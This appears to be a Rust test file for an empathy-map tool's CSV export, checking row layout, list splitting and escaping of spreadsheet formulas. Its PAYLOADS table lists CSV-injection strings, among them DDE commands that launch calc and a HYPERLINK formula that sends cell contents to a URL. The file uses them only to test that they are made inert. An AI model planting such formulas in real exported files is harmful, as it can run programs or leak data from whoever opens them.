//! The table of notes.

use csv::ReaderBuilder;
use empathy_map::cell::{guarded, joined, split, unguarded};
use empathy_map::export::csv::{COLUMNS, write};
use empathy_map::model::{EmpathyMap, Evidence, Feeling, MapId, Need, NeedId, NoteId, Point, Theme, ThemeId};
use proptest::prelude::*;

use crate::scene::{map, note};
use crate::support::maps::{any_map, any_text};

fn bytes(map: &EmpathyMap) -> Vec<u8> {
    let mut bytes = Vec::new();
    write(map, &mut bytes).expect("memory takes everything");
    bytes
}

/// The rows as another reader of CSV sees them, the header first.
fn rows(map: &EmpathyMap) -> Vec<Vec<String>> {
    let bytes = bytes(map);
    let text = bytes.strip_prefix(b"\xef\xbb\xbf").expect("a byte order mark");
    let mut reader = ReaderBuilder::new().has_headers(false).from_reader(text);
    reader.records().map(|row| row.expect("rows of one width").iter().map(String::from).collect()).collect()
}

fn column(name: &str) -> usize {
    COLUMNS.iter().position(|column| *column == name).expect("a column")
}

#[test]
fn a_note_becomes_a_row_that_says_everything_about_it() {
    let mut map = map(vec![note("n1", "pains", "Explains the same thing,\nthree times")]);
    map.id = Some(MapId::new("m"));
    map.themes.push(Theme { id: ThemeId::new("t"), title: "Passed around".into(), extra: Default::default() });
    for (id, statement) in [("d1", "tell her story once"), ("d2", "know who answers; and when")] {
        let mut need = Need::new(NeedId::new(id), statement);
        need.supports.push(NoteId::new("n1"));
        map.needs.push(need);
    }
    let note = &mut map.notes[0];
    note.evidence = Some(Evidence::Quote);
    note.source = "Interview 1, 12:40".into();
    note.who = vec!["P1".into(), "P3".into()];
    note.theme = Some(ThemeId::new("t"));
    note.feeling = Feeling::new(-2);
    note.tags = vec!["handover".into()];
    note.votes = [("room".to_owned(), 3), ("01jd".to_owned(), 2)].into();
    note.author = "Ana".into();
    note.created = "2026-11-21T18:04:10Z".into();
    note.at = Some(Point { x: -24.5, y: 64.0 });
    let text = String::from_utf8(bytes(&map)).unwrap();
    assert_eq!(
        text,
        "\u{feff}map_id,note_id,quadrant,text,evidence,source,who,theme,feeling,tags,votes,needs,author,created,x,y\r\n\
         m,n1,Pain points,\"Explains the same thing,\nthree times\",quote,\"Interview 1, 12:40\",P1; P3,Passed around,-2,\
         handover,5,\"tell her story once; \"\"know who answers; and when\"\"\",Ana,2026-11-21T18:04:10Z,-24.5,64\r\n"
    );
}

#[test]
fn what_is_not_known_is_an_empty_cell() {
    let rows = rows(&map(vec![note("n1", "thinks", "Hm")]));
    assert_eq!(rows[1].join("|"), "|n1|Thinks|Hm||||||||||||");
}

#[test]
fn a_quadrant_whose_title_tells_nothing_stands_by_its_identifier() {
    let mut map = map(vec![note("a", "thinks", "1"), note("b", "feels", "2"), note("c", "does", "3")]);
    map.quadrants[0].title = "Heart".into();
    map.quadrants[1].title = " Heart".into();
    map.quadrants[2].title = " ".into();
    let found: Vec<_> = rows(&map)[1..].iter().map(|row| row[column("quadrant")].clone()).collect();
    assert_eq!(found, ["thinks", "feels", "does"]);
}

/// Texts that a spreadsheet would compute, and what stands in the cell instead.
const PAYLOADS: &[(&str, &str)] = &[
    ("=1+1", "'=1+1"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("=HYPERLINK(\"http://example.org?\"&A1,\"Open\")", "'=HYPERLINK(\"http://example.org?\"&A1,\"Open\")"),
    ("=WEBSERVICE(\"http://example.org\")", "'=WEBSERVICE(\"http://example.org\")"),
    ("+49 30 1234", "'+49 30 1234"),
    ("-2+3+cmd|' /C calc'!D2", "'-2+3+cmd|' /C calc'!D2"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t'=1+1"),
    ("\ttabbed", "'\ttabbed"),
    ("\r=1+1", "'\r'=1+1"),
    ("\n=1+1", "'\n'=1+1"),
    ("  =1+1", "'  =1+1"),
    ("\u{a0}\u{feff}\u{200b}=1+1", "'\u{a0}\u{feff}\u{200b}=1+1"),
    ("＝1+1", "'＝1+1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("\"=1+1\"", "'\"=1+1\""),
    ("'=1+1", "''=1+1"),
    ("''", "''"),
    ("a;=1+1", "a;'=1+1"),
    ("a; \"=1+1", "a;' \"=1+1"),
    ("a\t=1+1", "a\t'=1+1"),
    ("- one\n- two", "'- one\n'- two"),
    ("1 + 1 = 2", "1 + 1 = 2"),
    ("it’s fine; isn't it?", "it’s fine; isn't it?"),
    ("’=1+1", "’=1+1"),
    ("", ""),
];

#[test]
fn no_text_begins_like_a_formula_and_every_text_comes_back() {
    for (text, cell) in PAYLOADS {
        assert_eq!(guarded(text), *cell);
        assert_eq!(unguarded(cell), *text);
    }
}

#[test]
fn every_column_of_text_is_inert_and_numbers_stay_numbers() {
    let formula = "=1+1";
    let mut map = map(vec![note("=1+1", "=1+1", formula)]);
    map.id = Some(MapId::new(formula));
    map.quadrants[0].id = "=1+1".into();
    map.quadrants[0].title = formula.into();
    map.themes.push(Theme { id: ThemeId::new("t"), title: formula.into(), extra: Default::default() });
    let mut need = Need::new(NeedId::new("d"), formula);
    need.supports.push(NoteId::new(formula));
    map.needs.push(need);
    let note = &mut map.notes[0];
    note.source = formula.into();
    note.who = vec![formula.into()];
    note.theme = Some(ThemeId::new("t"));
    note.feeling = Feeling::new(-2);
    note.tags = vec![formula.into()];
    note.author = formula.into();
    note.created = formula.into();
    note.at = Some(Point { x: -1.0, y: -2.5 });
    map.check().unwrap();
    let numbers = [("evidence", ""), ("feeling", "-2"), ("votes", ""), ("x", "-1"), ("y", "-2.5")];
    for (name, cell) in COLUMNS.iter().zip(&rows(&map)[1]) {
        let number = numbers.iter().find(|(column, _)| column == name);
        assert_eq!(cell, number.map_or("'=1+1", |(_, number)| number), "{name}");
    }
}

#[test]
fn a_list_that_a_person_typed_is_understood() {
    for (cell, words) in [
        ("P1;P3 ; P4;", vec!["P1", "P3", "P4"]),
        (" ", vec![]),
        ("say \"no\"; go", vec!["say \"no\"", "go"]),
        ("\"a; b\" ; c", vec!["a; b", "c"]),
        ("a;; \"b\" ;;c", vec!["a", "b", "c"]),
        ("\"open; end", vec!["\"open", "end"]),
        ("\"\"", vec![""]),
    ] {
        assert_eq!(split(cell), words, "{cell}");
    }
}

/// Texts with everything that cells and lists are made of.
fn tricky_text() -> impl Strategy<Value = String> {
    prop_oneof![any_text(), "[;\"', =+@\\-\\t\\n\\ra\u{feff}\u{a0}]{0,8}"]
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(256) })]

    #[test]
    fn any_text_comes_back_from_its_cell(text in tricky_text()) {
        let cell = guarded(&text);
        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']));
        prop_assert_eq!(unguarded(&cell), text);
    }

    #[test]
    fn any_list_comes_back_from_its_cell(words in prop::collection::vec(tricky_text(), 0..4)) {
        prop_assert_eq!(split(&unguarded(&guarded(&joined(&words)))), words);
    }

    #[test]
    fn another_reader_finds_every_column_of_any_map(map in any_map()) {
        let rows = rows(&map);
        prop_assert_eq!(&rows[0], &COLUMNS);
        prop_assert_eq!(rows.len(), map.notes.len() + 1);
        for (row, note) in rows[1..].iter().zip(&map.notes) {
            let text = |name: &str| unguarded(&row[column(name)]);
            let number = |name: &str| row[column(name)].parse::<f64>().ok();
            prop_assert_eq!(text("note_id"), note.id.as_str());
            prop_assert_eq!(text("text"), &*note.text);
            prop_assert_eq!(text("source"), &*note.source);
            prop_assert_eq!(text("author"), &*note.author);
            prop_assert_eq!(text("created"), &*note.created);
            prop_assert_eq!(Evidence::from_key(&text("evidence")), note.evidence);
            prop_assert_eq!(split(&text("who")), note.who.clone());
            prop_assert_eq!(split(&text("tags")), note.tags.clone());
            prop_assert_eq!(number("feeling"), note.feeling.map(|feeling| feeling.step() as f64));
            prop_assert_eq!(number("votes").unwrap_or(0.0) as u64, note.vote_total());
            prop_assert_eq!(number("x").zip(number("y")), note.at.map(|at| (at.x, at.y)));
            let needs = map.needs.iter().filter(|need| need.supports.contains(&note.id));
            prop_assert_eq!(split(&text("needs")), needs.map(|need| need.statement.clone()).collect::<Vec<_>>());
        }
        prop_assert_eq!(bytes(&map), bytes(&map.clone()), "the same map, the same bytes");
    }
}
